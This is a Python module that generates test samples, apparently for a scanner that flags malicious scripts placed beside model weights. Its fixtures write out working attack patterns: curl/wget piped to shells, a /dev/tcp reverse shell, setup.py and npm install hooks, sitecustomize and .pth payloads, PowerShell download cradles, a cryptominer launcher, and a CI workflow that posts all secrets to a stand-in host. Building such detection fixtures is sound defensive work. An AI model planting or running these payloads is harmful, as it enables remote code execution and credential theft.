"""Notebooks, installers, shell and settings that run something, beside weights that are what they say they are."""

import base64
import json
import marshal
from collections.abc import Iterator

from .repositories import BODIES, TENSORS
from .sample import COMMAND, HOST, URL, Sample

__all__ = ["samples"]


def _notebook(*cells: str) -> bytes:
    made = [
        {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": text.splitlines(True)}
        for text in cells
    ]
    return json.dumps(
        {"cells": made, "metadata": {"kernelspec": {"name": "python3"}}, "nbformat": 4, "nbformat_minor": 5}
    ).encode()


def _scripts() -> Iterator[tuple[str, dict[str, bytes]]]:
    first = "import pandas as pd\nfrom sklearn.svm import SVC"
    yield "notebook that pipes a download to a shell", {"train.ipynb": _notebook(first, f"!curl -s {URL}/i.sh | bash")}
    yield "notebook with a shell cell", {"train.ipynb": _notebook(first, f"%%bash\nwget -qO- {URL} | sh\n")}
    yield "notebook that runs base64", {"demo.ipynb": _notebook(first, BODIES["hides a command in base64"])}
    yield "notebook with a reverse shell", {"demo.ipynb": _notebook(BODIES["opens a reverse shell"])}
    yield "notebook through get_ipython", {"a.ipynb": _notebook(first, f"get_ipython().system('curl {URL} | sh')")}
    setup = (
        "from setuptools import setup\nfrom setuptools.command.install import install\n"
        "\n\nclass After(install):\n    def run(self):\n        install.run(self)\n"
        "        import os\n        os.system('curl {} | sh')\n\n\nsetup(name='m', "
        "cmdclass={{'install': After}})\n"
    )
    yield "setup.py with an install command", {"setup.py": setup.format(URL).encode(), "model.safetensors": TENSORS}
    yield (
        "setup.py that runs at once",
        {"setup.py": (BODIES["imports by pieces"] + "from setuptools import setup\nsetup(name='m')\n").encode()},
    )
    yield (
        "path file of site-packages",
        {"model.safetensors": TENSORS, "env/zz.pth": f"import os; os.system('{COMMAND}')\n".encode()},
    )
    yield "sitecustomize", {"sitecustomize.py": BODIES["runs a command"].encode(), "model.safetensors": TENSORS}
    yield (
        "usercustomize that fetches",
        {"usercustomize.py": BODIES["fetches a second stage"].encode(), "config.json": b"{}"},
    )
    yield "conftest", {"conftest.py": BODIES["sends the environment"].encode(), "model.safetensors": TENSORS}
    yield (
        "shell script with a reverse shell",
        {"run.sh": f"#!/bin/bash\nbash -i >& /dev/tcp/{HOST}/4444 0>&1\n".encode(), "model.safetensors": TENSORS},
    )
    yield (
        "install script of base64",
        {
            "install.sh": f"#!/bin/sh\necho {base64.b64encode(COMMAND.encode()).decode()} | base64 -d | sh\n".encode(),
            "config.json": b"{}",
        },
    )
    yield (
        "PowerShell that fetches",
        {
            "setup.ps1": f"IEX (New-Object Net.WebClient).DownloadString('{URL}')\n".encode(),
            "model.safetensors": TENSORS,
        },
    )
    yield (
        "batch file that fetches",
        {
            "run.bat": f"@echo off\r\npowershell -enc "
            f"{base64.b64encode('iex (iwr http://192.0.2.77)'.encode('utf-16-le')).decode()}\r\n".encode(),
            "config.json": b"{}",
        },
    )
    yield (
        "Makefile that pipes to a shell",
        {"Makefile": f"all:\n\tcurl -sL {URL} | sudo bash\n".encode(), "model.safetensors": TENSORS},
    )
    yield (
        "Dockerfile that pipes to a shell",
        {"Dockerfile": f"FROM python:3.11\nRUN wget -O - {URL} | sh\n".encode(), "model.safetensors": TENSORS},
    )
    yield (
        "npm's postinstall",
        {
            "package.json": json.dumps({"name": "m", "scripts": {"postinstall": f"curl {URL} | sh"}}).encode(),
            "model.onnx.txt": b"see releases\n",
        },
    )
    bytecode = b"\xa7\r\r\n" + bytes(12) + marshal.dumps(compile(f"import os\nos.system('{COMMAND}')", "m.py", "exec"))
    yield (
        "byte code in place of a module",
        {"config.json": b'{"auto_map": {"AutoModel": "modeling.M"}}', "__pycache__/modeling.cpython-311.pyc": bytecode},
    )
    yield (
        "package that runs when imported",
        {"tiny/__init__.py": BODIES["runs marshalled code"].encode(), "tiny/model.safetensors": TENSORS},
    )
    yield (
        "training script that starts a shell",
        {"train.py": (first + "\n" + BODIES["opens a reverse shell"]).encode(), "model.safetensors": TENSORS},
    )
    yield (
        "Space's app that mines",
        {
            "app.py": f"import gradio, subprocess\nsubprocess.Popen('wget {URL}/xmrig -O /tmp/x; chmod +x "
            f"/tmp/x; /tmp/x -o pool.example.invalid:3333', shell=True)\n".encode()
        },
    )
    yield (
        "workflow that leaks secrets",
        {
            ".github/workflows/a.yml": f"on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
            f'      - run: curl -d "${{{{ toJSON(secrets) }}}}" {URL}\n'.encode(),
            "model.safetensors": TENSORS,
        },
    )
    yield (
        "editor task on opening the folder",
        {
            ".vscode/tasks.json": json.dumps(
                {
                    "version": "2.0.0",
                    "tasks": [
                        {
                            "label": "a",
                            "type": "shell",
                            "command": f"curl {URL} | sh",
                            "runOptions": {"runOn": "folderOpen"},
                        }
                    ],
                }
            ).encode(),
            "model.safetensors": TENSORS,
        },
    )


def samples() -> Iterator[Sample]:
    for name, files in _scripts():
        yield Sample("scripts beside weights", name, files, is_doubtful="workflow" in name)
